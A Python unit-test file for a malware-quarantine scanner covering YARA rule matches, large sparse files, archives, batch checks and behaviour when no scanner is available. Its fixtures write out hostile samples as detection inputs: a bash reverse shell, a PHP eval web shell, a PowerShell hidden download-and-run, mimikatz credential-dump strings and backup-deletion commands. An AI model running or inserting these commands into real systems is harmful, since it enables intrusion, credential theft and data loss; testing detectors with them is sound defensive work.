"""What is found, in what, and what becomes of what nobody could look at."""

import os
from pathlib import Path

import pytest
from tests.unit.host.quarantine.kit import EICAR, RULE, SETTINGS, check, tarred, verdict, zipped

from farhand.host.quarantine.policy import MIB, WHOLE, WINDOW, ArchiveLimits, ScanSettings, Verdict
from farhand.host.quarantine.scanner import Infected, NotScanned, Scanner
from farhand.protocol.messages.files import FileFault


def sparse(path: Path, size: int, at: int = -1, content: bytes = EICAR) -> None:
    with path.open("wb") as file:
        if at >= 0:
            file.seek(at)
            file.write(content)
        file.truncate(size)


class TestWholeFiles:
    @pytest.mark.parametrize("size", [0, 1, 68, 4096, MIB])
    def test_a_clean_one(self, scanner: Scanner, tmp_path: Path, size: int) -> None:
        check(scanner, tmp_path / "clean", os.urandom(size))

    @pytest.mark.parametrize("content", [EICAR, b"before " * 500 + EICAR + b" behind" * 9000])
    def test_an_infected_one(self, scanner: Scanner, tmp_path: Path, content: bytes) -> None:
        with pytest.raises(Infected) as caught:
            check(scanner, tmp_path / "bad", content)
        assert (caught.value.fault, caught.value.found, caught.value.scanner) == (FileFault.INFECTED, RULE, "yara")

    @pytest.mark.parametrize(
        ("content", "rule"),
        [
            (b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n", "Shell_to_a_stranger"),
            (b"<?php @eval($_POST['x']); ?>", "Web_shell_PHP"),
            (b"\x7fELF" + b"xmrig stratum+tcp://pool.example:3333 donate-level", "Hidden_miner"),
            (
                b"powershell.exe -w hidden IEX (New-Object Net.WebClient).DownloadString('http://x')",
                "PowerShell_download_and_run",
            ),
            (b"MZ sekurlsa::logonpasswords lsadump::sam", "Credential_dumper"),
            (b"MZ vssadmin delete shadows /all /quiet wbadmin delete catalog -quiet", "Deletes_backups"),
            (b"L\0\0\0" + "powershell -w hidden".encode("utf-16-le"), "Shortcut_that_runs_a_script"),
        ],
    )
    def test_own_rules_find_what_they_name(self, scanner: Scanner, content: bytes, rule: str) -> None:
        found = verdict(scanner, content)
        assert isinstance(found, Infected)
        assert found.found == rule

    def test_the_place_of_the_descriptor_stays(self, scanner: Scanner, tmp_path: Path) -> None:
        path = tmp_path / "file"
        path.write_bytes(bytes(100))
        with path.open("rb+", buffering=0) as file:
            file.seek(17)
            scanner.check(file.fileno(), 100, "file")
            assert file.tell() == 17


class TestLargeFiles:
    SIZE = WHOLE + 3 * WINDOW + 777

    @pytest.mark.parametrize("at", [0, WINDOW - 30, WHOLE, WHOLE + WINDOW - 1, SIZE - len(EICAR)])
    def test_found_wherever_a_window_ends(self, scanner: Scanner, tmp_path: Path, at: int) -> None:
        sparse(tmp_path / "bad", self.SIZE, at)
        with pytest.raises(Infected, match=RULE):
            check(scanner, tmp_path / "bad")

    def test_a_rule_for_small_files_sees_none_in_the_last_window(self, scanner: Scanner, tmp_path: Path) -> None:
        script = b"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"
        sparse(tmp_path / "large", self.SIZE, self.SIZE - len(script), script)
        check(scanner, tmp_path / "large")

    def test_holes_cost_nothing(self, scanner: Scanner, tmp_path: Path) -> None:
        """Read at memory's speed, this file would take longer than the test may."""
        sparse(tmp_path / "holes", 512 << 30, (512 << 30) - 68)
        with pytest.raises(Infected, match=RULE):
            check(scanner, tmp_path / "holes")

    def test_told_while_it_arrives(self, scanner: Scanner, tmp_path: Path) -> None:
        size = 200 * MIB
        sparse(tmp_path / "bad", size, 9)
        fd = os.open(tmp_path / "bad", os.O_RDWR)
        try:
            with scanner.begin(fd, size, "bad") as arrival, pytest.raises(Infected):
                # It waits for the oldest answer once four jobs are under way: that is the one with the find.
                arrival.feed(size - MIB)
        finally:
            os.close(fd)

    def test_a_clean_one_that_arrives(self, scanner: Scanner, tmp_path: Path) -> None:
        sparse(tmp_path / "clean", self.SIZE, 9, b"harmless")
        fd = os.open(tmp_path / "clean", os.O_RDWR)
        try:
            with scanner.begin(fd, self.SIZE, "clean") as arrival:
                for received in range(0, self.SIZE, MIB):
                    arrival.feed(received)
                arrival.finish()
        finally:
            os.close(fd)


class TestSmallFiles:
    def test_each_has_its_own_verdict(self, scanner: Scanner) -> None:
        files = [(os.urandom(2000), str(number)) for number in range(300)]
        files[7] = (EICAR, "bad")
        files[8] = (b"", "empty")
        files[299] = (zipped({"in/bad": EICAR}), "bad.zip")
        verdicts = scanner.check_many(files)
        assert [index for index, found in enumerate(verdicts) if found] == [7, 299]
        assert verdicts[7] is not None
        assert verdicts[299] is not None
        assert "in/bad" in verdicts[299].cause

    def test_none(self, scanner: Scanner) -> None:
        assert scanner.check_many([]) == []

    def test_more_than_one_batch(self, scanner: Scanner) -> None:
        files = [(b"x", "x")] * 5000 + [(EICAR, "bad")]
        verdicts = scanner.check_many(files)
        assert len(verdicts) == 5001
        assert [index for index, found in enumerate(verdicts) if found] == [5000]


class TestArchives:
    @pytest.mark.parametrize("mode", ["w", "w:gz", "w:bz2", "w:xz"])
    def test_tar(self, scanner: Scanner, mode: str) -> None:
        found = verdict(scanner, tarred({"a": b"harmless", "b/bad": EICAR}, mode))
        assert isinstance(found, Infected)
        # Uncompressed, the rules see it in the archive's own bytes.
        assert found.member == ("" if mode == "w" else "b/bad")

    def test_found_in_a_large_archive_on_disk(self, scanner: Scanner, tmp_path: Path) -> None:
        content = zipped({"noise": os.urandom(WHOLE + MIB), "inner.tar.gz": tarred({"bad": EICAR}, "w:gz")})
        with pytest.raises(Infected, match=r"inner\.tar\.gz/bad"):
            check(scanner, tmp_path / "bad.zip", content)

    def test_one_beyond_what_is_opened_is_looked_at_as_it_is(self, tmp_path: Path) -> None:
        settings = ScanSettings(clamd="off", archives=ArchiveLimits(packed_mib=1))
        content = zipped({"noise": os.urandom(2 * MIB), "bad": EICAR * 2})
        with Scanner(settings) as scanner:
            check(scanner, tmp_path / "large.zip", content)


class TestNobodyCanLook:
    OFF = ScanSettings(yara=False, clamd="off")

    def test_refused(self, tmp_path: Path) -> None:
        with Scanner(self.OFF) as scanner:
            found = verdict(scanner, b"anything")
            assert isinstance(found, NotScanned)
            assert found.fault is FileFault.NOT_SCANNED
            with pytest.raises(NotScanned):
                check(scanner, tmp_path / "file", b"anything")

    def test_accepted_where_the_owner_says_so(self, tmp_path: Path) -> None:
        with Scanner(ScanSettings(yara=False, clamd="off", unavailable=Verdict.ACCEPT)) as scanner:
            assert verdict(scanner, b"anything") is None
            check(scanner, tmp_path / "file", b"anything")

    def test_a_bad_rule_file_is_named_with_its_line(self, tmp_path: Path) -> None:
        (tmp_path / "mine.yar").write_text("rule a { condition: true }\n\nrule b { condition: nothing_of_the_kind }\n")
        with Scanner(ScanSettings(clamd="off", rules=str(tmp_path))) as scanner:
            found = verdict(scanner, b"anything")
            assert isinstance(found, NotScanned)
            assert f"{tmp_path}/mine.yar, line 3" in found.cause
            assert isinstance(verdict(scanner, b"at once, from memory"), NotScanned)

    def test_own_rules_of_the_owner(self, tmp_path: Path) -> None:
        (tmp_path / "mine.yar").write_text('rule Mine { strings: $a = "wanted" condition: $a at 0 and filesize < 20 }')
        with Scanner(ScanSettings(clamd="off", rules=str(tmp_path))) as scanner:
            found = verdict(scanner, b"wanted")
            assert isinstance(found, Infected)
            assert found.found == "Mine"
            assert verdict(scanner, EICAR) is None, "they stand in place of Farhand's own"

    def test_a_scanner_that_was_closed(self) -> None:
        scanner = Scanner(SETTINGS)
        scanner.close()
        assert isinstance(verdict(scanner, b"anything"), NotScanned)
